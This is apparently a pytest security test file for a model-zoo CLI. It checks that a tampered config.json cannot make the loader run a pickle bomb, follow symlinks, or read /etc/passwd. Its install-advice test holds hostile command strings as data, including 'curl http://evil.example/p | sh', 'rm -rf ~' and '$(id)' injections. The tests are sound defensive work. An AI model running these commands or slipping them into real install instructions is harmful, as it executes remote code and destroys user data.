"""Issue 14 item 1: a saved directory or Hub repo is data; its config.json cannot steer the
builder past what the catalog entry declares.

Each attack goes through a real ``zoo get`` (in a fresh interpreter with an audit hook, or
in-process through typer's CliRunner) and checks the refusal, that the canary file was
never opened and that the pickle payload never ran.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from canary import files_under, opens_under, pickle_bomb, run_audited
from helpers import refused as _refused
from hubserver import HubServer
from typer.testing import CliRunner

import zoo
from zoo.cli import app
from zoo.loading import build


def _save(name: str, folder: Path) -> Path:
    spec, tag = zoo.api.spec(name)
    return build.save(zoo.get(name), folder, spec=spec, tag=tag)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> dict[str, Path]:
    """timm/test_resnet and bert_tiny saved once (random weights; both small)."""
    root = tmp_path_factory.mktemp("pristine")
    return {"timm": _save("timm/test_resnet", root / "timm"),
            "bert": _save("bert_tiny", root / "bert")}


def _tamper(pristine: dict[str, Path], which: str, dest: Path, **kwargs) -> Path:
    """A copy of a pristine saved model whose config.json kwargs gain ``kwargs``."""
    d = Path(shutil.copytree(pristine[which], dest))
    config = json.loads((d / "config.json").read_text())
    config["kwargs"].update(kwargs)
    (d / "config.json").write_text(json.dumps(config))
    return d


def test_h1_saved_dir_cannot_set_checkpoint_path(pristine, tmp_path):
    marker = tmp_path / "payload-ran"
    (tmp_path / "outside").mkdir()
    bomb = pickle_bomb(tmp_path / "outside" / "evil.pth", marker)
    d = _tamper(pristine, "timm", tmp_path / "model", checkpoint_path=str(bomb))
    run = run_audited("get", str(d), watch=[tmp_path / "outside"])
    line = run.error_line()
    assert run.returncode == 2 and "kwargs.checkpoint_path" in line, run.stderr
    assert run.opened == [], f"zoo opened {run.opened}"
    assert not marker.exists(), "the pickle in checkpoint_path ran"


def test_h1_saved_dir_cannot_make_timm_read_a_file_of_its_choosing(pristine, tmp_path):
    secret = tmp_path / "outside" / "weights.safetensors"
    secret.parent.mkdir()
    shutil.copy(pristine["timm"] / "model.safetensors", secret)
    d = _tamper(pristine, "timm", tmp_path / "model", pretrained=True,
                pretrained_cfg_overlay={"file": str(secret)})
    with opens_under(secret.parent) as opened:
        res = CliRunner().invoke(app, ["get", str(d)])
    _refused(res, "kwargs.pretrained", "timm/test_resnet")
    assert opened == [], f"zoo opened {opened}"


def test_h1_hub_repo_cannot_set_checkpoint_path(pristine, tmp_path, monkeypatch):
    marker = tmp_path / "payload-ran"
    (tmp_path / "outside").mkdir()
    bomb = pickle_bomb(tmp_path / "outside" / "evil.pth", marker)
    _tamper(pristine, "timm", tmp_path / "hub" / "mallory" / "resnet",
            checkpoint_path=str(bomb))
    with HubServer(tmp_path / "hub") as hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.url)
        monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hf" / "hub"))
        monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
        with opens_under(tmp_path / "outside") as opened:
            res = CliRunner().invoke(app, ["get", "hf-hub:mallory/resnet"])
    _refused(res, "kwargs.checkpoint_path", "timm/test_resnet")
    assert opened == [] and not marker.exists()
    assert any("/resolve/" in path for _, path in hub.requests), "the Hub was not asked"


@pytest.mark.parametrize(("key", "value"), [
    ("attn_implementation", "flash_attention_2"), ("trust_remote_code", True),
    ("_name_or_path", "/etc"), ("tokenizer_name_or_path", "/etc"),
])
def test_h1_saved_dir_cannot_pass_transformers_config_keys(pristine, tmp_path, key, value):
    d = _tamper(pristine, "bert", tmp_path / "model", **{key: value})
    _refused(CliRunner().invoke(app, ["get", str(d)]), f"kwargs.{key}", "bert_tiny")


@pytest.mark.parametrize(("which", "key", "value", "why"), [
    ("bert", "num_classes", True, "must be an integer"),        # bool is not int
    ("bert", "num_classes", 2.5, "must be an integer"),
    ("bert", "num_classes", 10 ** 400, "must be an integer"),   # JSON has no size limit
    ("bert", "hidden_size", "128", "must be an integer"),
    ("timm", "model_name", ["resnet50"], "must be a string"),
    ("timm", "model_name", "resnet50", "neither the catalog's value"),
    ("timm", "model_name", "/etc/passwd", "neither the catalog's value"),
    ("timm", "model_name", "package:zoo/../../../etc/passwd", "neither the catalog's value"),
])
def test_h1_saved_dir_values_must_have_the_declared_type(pristine, tmp_path, which, key,
                                                         value, why):
    d = _tamper(pristine, which, tmp_path / "model", **{key: value})
    _refused(CliRunner().invoke(app, ["get", str(d)]), f"kwargs.{key}", why)


def test_h1_saved_dir_files_and_weights_cannot_link_outside(pristine, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "private.safetensors"
    shutil.copy(pristine["bert"] / "model.safetensors", secret)
    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    (d / "model.safetensors").unlink()
    (d / "model.safetensors").symlink_to(secret)
    before = files_under(tmp_path)
    with opens_under(outside) as opened:
        res = CliRunner().invoke(app, ["get", str(d)])
    _refused(res, "'weights'", "outside the directory")
    assert opened == [] and files_under(tmp_path) == before


def test_h1_kwargs_the_catalog_declares_still_load(pristine, tmp_path):
    """The rule refuses what the catalog does not declare, not what it does: num_classes
    is declared by timm/test_resnet's tag (1000 fits the saved head)."""
    d = _tamper(pristine, "timm", tmp_path / "model", num_classes=1000)
    res = CliRunner().invoke(app, ["get", str(d), "--json"])
    assert res.exit_code == 0, res.stderr
    assert json.loads(res.stdout)["output_shape"] == [1, 1000]


# -- item 6: the install advice a directory chooses --------------------------------------------

@pytest.mark.parametrize("dist", [
    "x; curl http://evil.example/p | sh", "--extra-index-url http://evil.example zoo-x",
    "zoo-x\nrm -rf ~", "zoo-x && rm -rf ~", "zoo-x @ https://evil.example/x.whl", "-e .",
    "zoo-x$(id)",
])
def test_h6_install_advice_only_names_a_plain_distribution(pristine, tmp_path, dist):
    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    config = json.loads((d / "config.json").read_text())
    config.update(name="zoo-x/model", plugin="zoo_x", plugin_distribution=dist)
    (d / "config.json").write_text(json.dumps(config))
    res = CliRunner().invoke(app, ["get", str(d)])
    err = res.stderr.strip()
    assert res.exit_code == 1 and len(err.splitlines()) == 2, err  # + the --debug hint
    assert "pip install" not in err and "evil" not in err and "rm -rf" not in err, err
    assert "install the plugin that made it" in err, err


def test_h6_a_plain_distribution_name_is_still_advised(pristine, tmp_path):
    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    config = json.loads((d / "config.json").read_text())
    config.update(name="zoo-x/model", plugin="zoo_x", plugin_distribution="zoo-x.models_2")
    (d / "config.json").write_text(json.dumps(config))
    res = CliRunner().invoke(app, ["get", str(d)])
    assert res.exit_code == 1 and "(pip install zoo-x.models_2)" in res.stderr, res.stderr


# -- item 10: crafted config.json, one line each -----------------------------------------------

NESTED = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(("edit", "says"), [
    ('"just a string"', "holds a JSON str, not an object"),
    ("[1, 2, 3]", "holds a JSON list, not an object"),
    (NESTED, "nested too deeply"),
    ({"kwargs": [1]}, "'kwargs' must be a table"),
    ({"kwargs": {"num_classes": json.loads("[" * 50 + "]" * 50)}}, "kwargs.num_classes"),
    ({"name": ["bert_tiny"]}, "no installed plugin or catalog declares"),
    ({"name": "bert_tiny\nINJECTED"}, "no installed plugin or catalog declares"),
    ({"tag": ["x"]}, "'tag'"),
    ({"tag": "no-such-tag"}, "'tag'"),
    ({"files": [1]}, "'files' must be tables"),
    ({"files": {"num_classes": "config.json"}}, "files.num_classes is not a file argument"),
    ({"weights": {"a": 1}}, "'weights' must be a relative file name"),
    ({"builder": ["os:system"]}, "'builder' must be a string"),
])
def test_h10_crafted_config_json_is_one_line(pristine, tmp_path, edit, says):
    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    if isinstance(edit, str):
        (d / "config.json").write_text(edit)
    else:
        config = json.loads((d / "config.json").read_text())
        config.update(edit)
        (d / "config.json").write_text(json.dumps(config))
    res = CliRunner().invoke(app, ["get", str(d)])
    err = [ln for ln in res.stderr.strip().splitlines() if not ln.startswith("(set ZOO_")]
    assert res.exit_code in (1, 2) and len(err) == 1 and err[0].startswith("Error: "), \
        (res.exit_code, res.stderr, repr(res.exception))
    assert says in err[0] and "INJECTED" not in err[0].split("\\n")[0][-9:], err[0]


def test_h10_config_json_that_is_a_fifo_or_huge_is_refused(pristine, tmp_path):
    import os

    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    (d / "config.json").unlink()
    os.mkfifo(d / "config.json")               # reading it would block forever
    _refused(CliRunner().invoke(app, ["get", str(d)]), "not a regular file")
    (d / "config.json").unlink()
    with open(d / "config.json", "wb") as f:
        f.truncate(17 << 20)                   # sparse: 17 MiB of zeros, no disk used
    _refused(CliRunner().invoke(app, ["get", str(d)]), "more than a model's config")


def test_h10_hub_repo_whose_assets_is_not_a_table(pristine, tmp_path, monkeypatch):
    repo = Path(shutil.copytree(pristine["bert"], tmp_path / "hub" / "mallory" / "bert"))
    config = json.loads((repo / "config.json").read_text())
    config["assets"] = ["files/x"]
    (repo / "config.json").write_text(json.dumps(config))
    with HubServer(tmp_path / "hub") as hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.url)
        monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hf" / "hub"))
        monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
        res = CliRunner().invoke(app, ["get", "hf-hub:mallory/bert"])
    err = res.stderr.strip().splitlines()
    assert res.exit_code == 1 and err[0].startswith("Error: ") and "'assets'" in err[0], err


def test_h10_publish_of_non_safetensors_weights_is_not_a_memory_error(pristine, tmp_path):
    """A pickle's first 8 bytes read as a safetensors header length ask for exabytes."""
    import hashlib

    import torch

    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
    torch.save({"w": torch.zeros(3)}, d / "model.safetensors")
    config = json.loads((d / "config.json").read_text())
    config["sha256"] = hashlib.sha256((d / "model.safetensors").read_bytes()).hexdigest()
    (d / "config.json").write_text(json.dumps(config))
    res = CliRunner().invoke(app, ["publish", str(d), "--repo", "alice/x", "--dry-run",
                                   "--out", str(tmp_path / "staged")])
    assert not isinstance(res.exception, MemoryError | TypeError), repr(res.exception)
    err = [ln for ln in res.stderr.strip().splitlines() if ln.startswith("Error")]
    assert res.exit_code == 0 or len(err) == 1, (res.exit_code, res.stderr)
    assert "Traceback" not in res.output


def test_h10_a_builder_returning_a_non_module_is_one_line(tmp_path, monkeypatch):
    cat = tmp_path / "cat.toml"
    cat.write_text('[models.not-a-module]\nfamily = "cnn"\ntask = "image-classification"\n'
                   'builder = "builtins:dict"\ninput = { size = [1, 8, 8] }\n')
    monkeypatch.setenv("ZOO_CATALOG", str(cat))
    res = CliRunner().invoke(app, ["get", "not-a-module", "--save", str(tmp_path / "out")])
    assert res.exit_code == 1 and "returned a dict, not a torch.nn.Module" in res.stderr
    assert not (tmp_path / "out").exists()


def test_h10_an_exception_in_the_summary_forward_pass_is_one_line(tmp_path):
    res = CliRunner().invoke(app, ["get", "gan", "-k", "latent_dim=16", "--save",
                                   str(tmp_path / "out")])
    err = res.stderr.strip()
    assert res.exit_code == 2 and len(err.splitlines()) == 1, (err, repr(res.exception))
    assert "one forward pass on its declared input [1, 64] failed" in err, err
    assert "nothing was saved" in err and not (tmp_path / "out").exists()


@pytest.mark.parametrize(("edit", "says"), [
    ({"labels": 12}, "'labels' must be a list of class names"),
    ({"labels": {"cat": 0, "dog": 1}}, "'labels' must be a list of class names"),
    ({"input": "big"}, "'input' must be a table"),
    ({"input": {"size": [10 ** 6, 10 ** 6]}}, "'input' size must be"),
    ({"input": {"size": [1, 32, 32], "dtype": "object"}}, "'input' dtype must be"),
])
def test_h10_crafted_labels_and_input_are_one_line_where_they_are_used(tmp_path, edit, says):
    """zoo finetune and zoo demo read a saved model's labels and input spec."""
    spec, tag = zoo.api.spec("lenet5.digits")
    d = build.save(zoo.get("lenet5.digits"), tmp_path / "model", spec=spec, tag=tag)
    config = json.loads((d / "config.json").read_text())
    config.update(edit)
    (d / "config.json").write_text(json.dumps(config))
    res = CliRunner().invoke(app, ["finetune", str(d), "--data", "digits", "--out",
                                   str(tmp_path / "out"), "--epochs", "1", "--limit", "32"])
    _refused(res, says)
    assert not (tmp_path / "out").exists()
    from zoo.demos.targets import resolve
    from zoo.errors import UsageError

    with pytest.raises(UsageError, match=says.replace("(", r"\(").replace("'", "'")):
        resolve(str(d))
